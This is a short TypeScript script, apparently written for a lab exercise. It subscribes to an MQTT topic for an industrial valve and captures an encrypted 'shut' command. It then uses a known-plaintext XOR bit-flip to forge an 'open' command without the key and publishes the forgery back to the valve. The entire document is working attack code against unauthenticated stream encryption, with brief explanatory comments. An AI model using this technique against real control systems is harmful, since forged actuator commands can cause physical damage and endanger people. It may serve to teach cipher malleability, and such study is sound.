const bridge = await lab.connect({ clientId: 'bridge', userName: 'bridge', password: lab.given['bridge'] });
const topic = 'brightwater/valve/7/cmd';

// One order to valve 7, which we cannot read and need not.
const order = await new Promise<Uint8Array>((resolve) => {
  bridge.once('message', (_topicName, payload) => resolve(payload));
  bridge.subscribe(topic);
});

// What we know is its text, since it never changes.
const known = new TextEncoder().encode('{"valve":"shut","id":7}');
const wanted = new TextEncoder().encode('{"valve":"open","id":7}');

// Ciphertext = text XOR stream. XOR with (known XOR wanted), and the stream stays where it is.
const start = order.length - known.length;
const forged = order.map((byte, index) =>
  index < start ? byte : byte ^ (known[index - start] ?? 0) ^ (wanted[index - start] ?? 0),
);
lab.log('changed bytes:', forged.filter((byte, index) => byte !== order[index]).length);
await bridge.publishAsync(topic, forged, { qos: 1 });
lab.log('Valve 7 has its order, from us.');
